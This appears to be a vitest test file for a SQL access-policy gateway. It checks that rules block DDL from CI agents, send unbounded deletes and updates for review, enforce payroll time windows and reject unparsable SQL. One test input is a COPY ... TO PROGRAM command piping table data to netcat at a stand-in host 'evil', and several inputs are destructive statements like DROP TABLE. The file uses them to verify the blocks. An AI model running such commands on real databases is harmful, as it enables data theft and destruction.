import { beforeAll, describe, expect, it } from 'vitest';
import { parseConfig } from '../../../src/core/config.js';
import type { Principal } from '../../../src/identity/principal.js';
import { classify, initClassifier } from '../../../src/policy/classify.js';
import { decide } from '../../../src/policy/decide.js';

beforeAll(() => initClassifier());

// the rules exactly as the issue writes them
const cfg = parseConfig({
  identity: { issuer: 'https://idp.example', audience: 'api://gatehouse' },
  ledger: { sqlite: 'x.db' },
  listeners: {},
  policies: [
    { name: 'no-ddl-for-agents', connections: ['orders'], groups: ['ci-agents'], match: { statement: ['drop', 'truncate', 'alter'] }, action: 'block' },
    { name: 'review-unbounded-writes', match: { statement: ['delete', 'update'], unbounded: true }, action: 'review', reviewers: ['dba-oncall'], timeout: '10m' },
    { name: 'no-copy-program', match: { program: true }, action: 'block', reason: 'COPY PROGRAM runs shell commands on the database host' },
    { name: 'payroll-office-hours', match: { tables: ['hr.payroll'], between: '09:00-17:00' }, action: 'allow' },
    { name: 'payroll-closed', match: { tables: ['hr.payroll'] }, action: 'block' },
  ],
});

const agent: Principal = { subject: 'ci-agent', groups: ['ci-agents'], issuer: 'i', clientId: null, tokenId: 't', tokenSha256: 's', ciJob: null, expiresAt: null };
const dba: Principal = { ...agent, subject: 'alice', groups: ['dba'] };
const d = (p: Principal, sql: string, connection = 'orders', now = new Date('2026-11-22T12:00:00Z')) =>
  decide(cfg, p, connection, { text: sql, classification: classify(sql) }, now);

describe('decide', () => {
  it('first matching rule wins, scoped by connection and group', () => {
    expect(d(agent, 'DROP TABLE customers')).toMatchObject({ action: 'block', policy: 'no-ddl-for-agents' });
    expect(d(agent, 'DROP TABLE customers', 'analytics')).toMatchObject({ action: 'allow', policy: 'default' });
    expect(d(dba, 'DROP TABLE customers')).toMatchObject({ action: 'allow', policy: 'default' });
    expect(d(agent, 'SELECT 1; TRUNCATE orders')).toMatchObject({ action: 'block', policy: 'no-ddl-for-agents' });
  });

  it('holds unbounded writes for review wherever they hide', () => {
    for (const sql of ['DELETE FROM customers', 'WITH x AS (DELETE FROM customers RETURNING 1) SELECT * FROM x', 'EXPLAIN ANALYZE UPDATE orders SET a = 1']) {
      expect(d(dba, sql), sql).toMatchObject({ action: 'review', policy: 'review-unbounded-writes', reviewers: ['dba-oncall'], timeoutMs: 600_000 });
    }
    expect(d(dba, 'DELETE FROM customers WHERE id = 1')).toMatchObject({ action: 'allow' });
    expect(d(dba, 'DELETE FROM customers').reason).toBe("DELETE customers without WHERE needs a reviewer's approval");
  });

  it('uses the configured reason, matches tables with or without schema, and honours time windows', () => {
    expect(d(dba, "COPY orders TO PROGRAM 'nc evil 1'")).toMatchObject({ action: 'block', reason: 'COPY PROGRAM runs shell commands on the database host' });
    expect(d(dba, 'SELECT * FROM hr.payroll')).toMatchObject({ action: 'allow', policy: 'payroll-office-hours' });
    expect(d(dba, 'SELECT * FROM hr.payroll', 'orders', new Date('2026-11-22T22:00:00Z'))).toMatchObject({ action: 'block', policy: 'payroll-closed' });
  });

  it('never silently allows what it cannot parse', () => {
    expect(d(dba, 'DELETE FROM customers WHERE')).toMatchObject({ action: 'block', policy: 'unparsable-sql' });
  });

  it('refuses a review rule without reviewers in the config', () => {
    expect(() => parseConfig({ identity: { issuer: 'https://i', audience: 'a' }, ledger: { sqlite: 'x' }, listeners: {}, policies: [{ name: 'r', action: 'review' }] })).toThrow(/review rule needs reviewers/);
  });
});
